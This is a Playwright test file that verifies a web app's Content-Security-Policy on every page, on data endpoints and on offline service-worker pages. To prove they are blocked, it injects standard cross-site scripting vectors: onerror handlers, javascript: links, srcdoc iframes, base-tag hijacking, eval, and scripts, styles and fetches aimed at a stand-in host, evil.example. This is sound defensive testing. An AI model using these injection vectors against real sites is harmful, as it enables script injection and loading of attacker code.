/**
 * The Content-Security-Policy: on every page, without exceptions, and in force. That it blocks nothing of our own is
 * checked by all other stories: the console reports blocked requests, and an unexpected line there fails them. Every
 * public page is opened by hydration.spec.ts, every page of the areas by accessibility.spec.ts.
 */
import type { Page } from 'playwright/test'
import { failedRequests } from '../support/noise.ts'
import { readyForOffline } from '../support/pages.ts'
import { publicPaths } from '../support/public-pages.ts'
import { fixedPaths } from '../support/route-paths.ts'
import { expect, test } from '../support/story.ts'

const AREAS = { client: 'client', intervenant: 'intervenant', admin: 'admin' } as const

/** Collects violations of the policy in this page and those after it. */
async function violations(page: Page): Promise<string[]> {
  const told: string[] = []
  await page.exposeFunction('tellViolation', (what: string) => void told.push(what))
  await page.addInitScript(() => {
    document.addEventListener(
      'securitypolicyviolation',
      ({ effectiveDirective, blockedURI, sourceFile, lineNumber }) => {
        void (window as unknown as { tellViolation: (what: string) => Promise<void> }).tellViolation(
          `${effectiveDirective} ${blockedURI} (${sourceFile}:${lineNumber})`,
        )
      },
    )
  })
  return told
}

function directives(policy: string): ReadonlyMap<string, readonly string[]> {
  return new Map(
    policy
      .split(';')
      .map((one) => one.trim().split(/\s+/))
      .map(([name = '', ...sources]) => [name, sources]),
  )
}

/** Risk: real page. A page is served without the policy, or with a hole in it. */
test('every page has it, for the site’s own files only; data admits nothing', async ({ page, server, noise }) => {
  noise.expect(/Content Security Policy|Blocked script execution|sandboxed|Failed to load resource/)
  const paths = [...publicPaths(), ...Object.values(AREAS).flatMap((area) => [`/${area}`, ...fixedPaths(area)])]
  expect(paths.length).toBeGreaterThan(50)
  for (const path of paths) {
    const headers = (await fetch(server.url + path, { headers: { accept: 'text/html' }, redirect: 'manual' })).headers
    const policy = directives(headers.get('content-security-policy') ?? '')
    const allowed = [...policy].flatMap(([name, sources]) => sources.map((source) => [name, source] as const))
    for (const [name, source] of allowed) {
      const known =
        ["'self'", "'none'", 'blob:', 'data:'].includes(source) ||
        (['script-src', 'style-src'].includes(name) && /^'sha256-[\w+/]+=*'$/.test(source))
      expect([path, name, source, known]).toEqual([path, name, source, true])
    }
    for (const name of [
      'script-src',
      'style-src',
      'default-src',
      'object-src',
      'base-uri',
      'frame-ancestors',
      'form-action',
    ])
      expect([path, name, policy.has(name)]).toEqual([path, name, true])
    for (const name of ['script-src', 'style-src'])
      expect(policy.get(name)?.some((source) => ['blob:', 'data:'].includes(source))).toBe(false)
    expect([path, policy.get('object-src'), policy.get('base-uri'), policy.get('frame-ancestors')]).toEqual([
      path,
      ["'none'"],
      ["'none'"],
      ["'none'"],
    ])
  }
  for (const path of ['/config.json', '/healthz', '/rest/v1/profiles', '/storage/v1/object/x/y']) {
    const response = await page.goto(server.url + path)
    const policy = directives(response?.headers()['content-security-policy'] ?? '')
    expect([path, policy.get('default-src'), policy.has('sandbox')]).toEqual([path, ["'none'"], true])
    expect([path, await page.evaluate(() => window.origin)], 'it is of no site').toEqual([path, 'null'])
  }
})

/** Risk: real page. The browser runs injected code. */
test('it stops what somebody else would bring in', async ({ page, noise }) => {
  noise.expect(/Content Security Policy|Content-Security-Policy|violates the following|Refused to/)
  noise.expect(/Failed to fetch|Failed to load resource|ERR_BLOCKED_BY_CSP/)
  const told = await violations(page)
  const onConsole: string[] = []
  page.on('console', (message) => message.type() === 'error' && onConsole.push(message.text()))
  await page.goto('/login')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  const ran = await page.evaluate(async () => {
    const done: string[] = []
    const place = document.createElement('div')
    document.body.append(place)
    Object.assign(window, { ran: (what: string) => done.push(what) })
    const script = (fill: (one: HTMLScriptElement) => void): Promise<void> =>
      new Promise((resolve) => {
        const one = document.createElement('script')
        one.addEventListener('error', () => resolve())
        one.addEventListener('load', () => resolve())
        fill(one)
        document.body.append(one)
        if (!one.src) resolve()
      })
    const styled = (how: (one: HTMLElement) => void, what: string): void => {
      const one = document.createElement('p')
      place.append(one)
      how(one)
      if (getComputedStyle(place.lastElementChild ?? one).position === 'fixed') done.push(what)
      one.remove()
    }
    const sheet = (text: string): HTMLElement => Object.assign(document.createElement('style'), { textContent: text })
    styled((one) => {
      one.outerHTML = '<p style="position:fixed"></p>'
    }, 'style in HTML')
    styled((one) => one.setAttribute('style', 'position:fixed'), 'style as an attribute')
    styled((one) => one.append(sheet('p{position:fixed!important}')), 'style as an element')
    styled((one) => {
      one.outerHTML = '<p><style>p{position:fixed!important}</style></p>'
    }, 'style as an element in HTML')
    const foreign = (href: string): Promise<void> =>
      new Promise((resolve) => {
        const link = Object.assign(document.createElement('link'), { rel: 'stylesheet', href })
        link.addEventListener('error', () => resolve())
        link.addEventListener('load', () => resolve(void done.push('sheet')))
        document.head.append(link)
      })
    const rules = 'p{position:fixed!important}'
    for (const href of [
      `data:text/css,${rules}`,
      URL.createObjectURL(new Blob([rules], { type: 'text/css' })),
      'https://evil.example/x.css',
    ])
      await foreign(href)
    place.innerHTML =
      '<img src="/nothing" onerror="ran(\'handler\')"><a id="go" href="javascript:ran(\'address\')">x</a><iframe ' +
      'srcdoc="<script>parent.ran(\'frame\')</script>"></iframe><base href="https://evil.example/">'
    await script((one) => {
      one.textContent = 'ran("inline")'
    })
    await script((one) => {
      one.src = 'data:text/javascript,ran("data")'
    })
    await script((one) => {
      one.src = URL.createObjectURL(new Blob(['ran("blob")'], { type: 'text/javascript' }))
    })
    await script((one) => {
      one.src = 'https://evil.example/x.js'
    })
    document.getElementById('go')?.click()
    try {
      // eslint-disable-next-line no-eval, no-implied-eval -- what has to be stopped
      ;(0, eval)('ran("eval")')
    } catch {
      /* `eval` is blocked, as it should be. */
    }
    const elsewhere: string = 'https://evil.example/y.js'
    for (const reach of [() => fetch('https://evil.example/'), () => import(elsewhere)])
      await (reach() as Promise<unknown>).then(
        () => done.push('reached'),
        () => undefined,
      )
    if (document.baseURI.includes('evil')) done.push('base')
    return done
  })
  expect(ran).toEqual([])
  const stopped = new Set(told.map((one) => one.split(' ')[0]))
  expect([...stopped].toSorted()).toEqual(
    expect.arrayContaining([
      'base-uri',
      'connect-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-attr',
      'style-src-elem',
    ]),
  )
  expect(told.some((one) => one.startsWith('script-src eval'))).toBe(true)
  for (const what of ['style-src', 'script-src'])
    await expect
      .poll(() => onConsole.some((text) => text.includes('violates') && text.includes(what)), 'the browser tells')
      .toBe(true)
})

/** Risk: offline start. The pages of an installed app, which come from its worker, run injected code. */
test('a page that the worker answers without network has it, too', async ({ device, noise }) => {
  noise.expect(/Content Security Policy|violates the following/)
  noise.expect(failedRequests)
  const { page } = device
  await page.goto('/')
  await readyForOffline(page)
  await device.offline(true)
  await page.goto('/login')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  const told = page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective))
      }),
  )
  const ran = await page.evaluate(() => {
    document.body.append(Object.assign(document.createElement('script'), { textContent: 'window.ran = true' }))
    return 'ran' in window
  })
  expect(ran).toBe(false)
  expect(await told).toBe('script-src-elem')
})
